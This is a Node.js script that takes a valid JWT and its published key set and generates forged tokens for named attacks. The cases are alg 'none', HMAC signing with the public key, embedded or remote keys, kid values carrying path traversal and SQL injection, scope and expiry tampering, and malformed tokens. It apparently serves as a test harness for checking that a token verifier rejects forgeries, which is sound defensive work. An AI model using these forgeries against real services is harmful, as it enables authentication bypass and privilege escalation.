// Forges tokens as an attacker would who has a valid token, the published keys, and no signing key.
//
// Reads {"token", "jwks"} as JSON, and returns names of attacks with their tokens.
import { createHmac, createPublicKey, generateKeyPairSync, sign } from 'node:crypto'
import { readFileSync } from 'node:fs'

const { token, jwks } = JSON.parse(readFileSync(0, 'utf8'))
const [head, body, signature] = token.split('.')
const header = JSON.parse(Buffer.from(head, 'base64url'))
const claims = JSON.parse(Buffer.from(body, 'base64url'))
const part = (json) => Buffer.from(JSON.stringify(json)).toString('base64url')
const forged = {}

const own = generateKeyPairSync('ed25519')
const jwk = own.publicKey.export({ format: 'jwk' })
const bySelf = (head, body) => {
  const message = `${part(head)}.${part(body)}`
  return `${message}.${sign(null, Buffer.from(message), own.privateKey).toString('base64url')}`
}

for (const alg of ['none', 'None', 'NONE', 'nOnE', '']) {
  forged[`alg ${alg}, no signature`] = `${part({ ...header, alg })}.${body}.`
  forged[`alg ${alg}, the old signature`] = `${part({ ...header, alg })}.${body}.${signature}`
}
const published = jwks.keys.find((key) => key.kid === header.kid)
const key = createPublicKey({ key: published, format: 'jwk' })
const secrets = {
  'PEM': key.export({ type: 'spki', format: 'pem' }),
  'PEM without its last line': key.export({ type: 'spki', format: 'pem' }).trim(),
  'DER': key.export({ type: 'spki', format: 'der' }),
  'the key itself': Buffer.from(published.x ?? published.n, 'base64url'),
  'its text': published.x ?? published.n,
  'JWK': JSON.stringify(published),
  'nothing': '',
}
for (const [name, secret] of Object.entries(secrets)) {
  for (const alg of ['HS256', header.alg]) {
    const message = `${part({ ...header, alg })}.${body}`
    const tag = createHmac('sha256', secret).update(message).digest('base64url')
    forged[`${alg}, HMAC with the public key as ${name}`] = `${message}.${tag}`
  }
}
forged['another key under this kid'] = bySelf({ ...header, alg: 'EdDSA' }, claims)
forged['an embedded key'] = bySelf({ ...header, alg: 'EdDSA', jwk }, claims)
forged['an embedded key of its own name'] = bySelf({ ...header, alg: 'EdDSA', kid: 'mine', jwk: { ...jwk, kid: 'mine' } }, claims)
forged['a key set elsewhere'] = bySelf({ ...header, alg: 'EdDSA', jku: 'http://127.0.0.1:1/jwks.json' }, claims)
forged['a certificate elsewhere'] = bySelf({ ...header, alg: 'EdDSA', x5u: 'http://127.0.0.1:1/x' }, claims)
forged['no kid'] = bySelf({ alg: 'EdDSA', typ: 'at+jwt' }, claims)
for (const kid of ['', '../../dev/null', "' OR 1=1 --", '\u0000', 'x'.repeat(4000), 7, null, [header.kid]]) {
  forged[`kid ${JSON.stringify(kid).slice(0, 20)}`] = `${part({ ...header, kid })}.${body}.${signature}`
}
forged['crit'] = `${part({ ...header, crit: ['exp'] })}.${body}.${signature}`
forged['typ JWT'] = `${part({ ...header, typ: 'JWT' })}.${body}.${signature}`
forged['zip'] = `${part({ ...header, zip: 'DEF' })}.${body}.${signature}`
forged['more scopes'] = `${head}.${part({ ...claims, scope: 'api_keys.manage items.read items.write' })}.${signature}`
forged['no end'] = `${head}.${part({ ...claims, exp: 99999999999 })}.${signature}`
forged['iat of tomorrow'] = `${head}.${part({ ...claims, iat: claims.iat + 86400 })}.${signature}`
forged['iss of another type'] = `${head}.${part({ ...claims, iss: [claims.iss] })}.${signature}`
forged['aud of another type'] = `${head}.${part({ ...claims, aud: [claims.aud] })}.${signature}`
forged['no claims'] = `${head}.${part({})}.${signature}`
forged['a claim twice'] = `${head}.${Buffer.from('{"sub":"a","sub":"b"}').toString('base64url')}.${signature}`
forged['no JSON'] = `${head}.${Buffer.from('[').toString('base64url')}.${signature}`
forged['padded'] = `${head}.${body}.${signature}==`
forged['cut'] = token.slice(0, -8)
forged['no signature'] = `${head}.${body}.`
forged['four parts'] = `${token}.${signature}`
forged['9 KiB'] = token + 'A'.repeat(9 * 1024)
console.log(JSON.stringify(forged))
